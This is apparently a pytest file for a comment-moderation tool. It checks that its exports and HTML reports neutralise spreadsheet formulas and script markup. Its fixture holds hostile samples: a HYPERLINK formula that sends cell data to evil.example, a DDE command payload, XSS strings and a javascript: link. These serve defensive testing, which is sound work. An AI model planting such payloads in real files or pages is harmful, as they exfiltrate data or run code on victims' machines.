"""Whatever leaves the program: a comment that holds markup and a formula is text there, whole and harmless."""

import csv
import html
import json
import zipfile
from datetime import UTC, datetime
from pathlib import Path

import openpyxl
import pytest

from moderator.core.comment import Decision, NewComment
from moderator.core.query import EVERYTHING, parse
from moderator.services.forms.export_formats import guarded
from moderator.services.forms.records import FIELDS
from moderator.services.handout import evidence, handback
from moderator.services.handout.exporting import SUFFIXES, export
from moderator.services.library import Library
from moderator.services.report import reporting
from moderator.services.review import reviewing
from tests.services.pages import harmless
from tests.store.making import fill

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"refund")'
SCRIPT = "<script>alert(1)</script></td><img src=x onerror=alert(2)>"
TEXT = f"{FORMULA} {SCRIPT}"
AUTHOR, TITLE = f"=cmd|'/c calc'!A1 {SCRIPT}", f'@SUM(1) {SCRIPT} "&amp;'


@pytest.fixture
def library(tmp_path: Path):  # type: ignore[no-untyped-def]
    with Library.open(tmp_path / "hostile.sqlite") as opened:
        made = [
            NewComment(
                TEXT, "youtube", "=1+1", None, "-2+3", TITLE, AUTHOR, permalink="javascript:alert(1)",
                created_at=datetime(2026, 6, 1, tzinfo=UTC),
            ),
            NewComment("=1+1", "reddit", "t1_x", "=1+1", "p", "Post", "+anna"),
        ]  # fmt: skip
        fill(opened.store, made)
        reviewing.decide(opened, [1, 2], Decision.FLAGGED, note=TEXT)
        yield opened


def cells(path: Path) -> list[list[object]]:
    if path.suffix == ".csv":
        with path.open(encoding="utf-8-sig", newline="") as file:
            return [list(row) for row in csv.reader(file)]
    return [list(row) for row in openpyxl.load_workbook(path).active.iter_rows(values_only=True)]


def test_every_format_is_looked_at_here() -> None:
    assert set(SUFFIXES) == {".csv", ".xlsx", ".json", ".jsonl", ".html", ".parquet"}


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_no_cell_of_a_table_is_a_formula(library: Library, tmp_path: Path, suffix: str) -> None:
    target = tmp_path / f"out{suffix}"
    export(library, target)
    rows = cells(target)
    assert len(rows) == 3
    for row in rows[1:]:
        for cell in row:
            assert not str(cell or "").startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
    found = next(row for row in rows[1:] if row[FIELDS.index("platform")] == "youtube")
    assert found[FIELDS.index("text")] == f"'{TEXT}"
    if suffix == ".xlsx":
        book = openpyxl.load_workbook(target)
        kinds = {cell.data_type for row in book.active.iter_rows() for cell in row}
        assert "f" not in kinds
        with zipfile.ZipFile(target) as file:
            assert not [name for name in file.namelist() if "external" in name.lower()]
            assert b"<f>" not in file.read("xl/worksheets/sheet1.xml")


@pytest.mark.parametrize("suffix", [".json", ".jsonl", ".parquet"])
def test_data_keeps_the_text_as_it_is(library: Library, tmp_path: Path, suffix: str) -> None:
    target = tmp_path / f"out{suffix}"
    if suffix == ".parquet":
        parquet = pytest.importorskip("pyarrow.parquet")
        export(library, target)
        rows = parquet.read_table(target).to_pylist()
    else:
        export(library, target)
        content = target.read_text(encoding="utf-8")
        rows = (
            json.loads(content)["comments"]
            if suffix == ".json"
            else [json.loads(line) for line in content.splitlines()]
        )
    found = next(row for row in rows if row["platform"] == "youtube")
    assert (found["text"], found["author"], found["thread_title"]) == (TEXT, AUTHOR, TITLE)


def test_pages_show_it_and_run_nothing(library: Library, tmp_path: Path) -> None:
    export(library, tmp_path / "out.html")
    reporting.write_report(library, tmp_path / "report.html", EVERYTHING)
    reporting.write_report(library, tmp_path / "narrow.html", parse('"<script>alert(1)</script>" or note:=1'))
    evidence.seal(library, tmp_path / "pack.zip", EVERYTHING)
    handback.hand_back(library, tmp_path / "lists")
    with zipfile.ZipFile(tmp_path / "pack.zip") as pack:
        sealed = pack.read("evidence.html").decode()
        kept = json.loads(pack.read("evidence.json"))["comments"]
    assert TEXT in {one["text"] for one in kept}
    pages = [sealed, *(path.read_text(encoding="utf-8") for path in tmp_path.rglob("*.html"))]
    assert len(pages) == 5
    for page in pages:
        found = harmless(page)
        addresses = [value for name, value in found.attributes if name == "href"]
        assert not [one for one in addresses if not str(one).startswith(("http://", "https://"))]
    for page in (sealed, (tmp_path / "out.html").read_text(encoding="utf-8")):
        assert html.escape(TEXT) in page or html.escape(TEXT, quote=False) in page


def test_lists_for_the_platforms_hold_no_formula(library: Library, tmp_path: Path) -> None:
    handback.hand_back(library, tmp_path / "lists")
    tables = list((tmp_path / "lists").glob("*.csv"))
    assert tables
    for path in tables:
        for row in cells(path):
            for cell in row:
                assert not str(cell).startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
    for path in (tmp_path / "lists").glob("*.txt"):
        assert "<script" not in path.read_text(encoding="utf-8")


@pytest.mark.parametrize("text", ["=1", "+1", "-1", "@a", "\t=1", "\r=1", "\n=1", "＝1", "＋1", "－1", "＠a"])
def test_every_beginning_of_a_formula_is_guarded(text: str) -> None:
    assert guarded(text) == f"'{text}"
    assert guarded(f"a{text}") == f"a{text}"
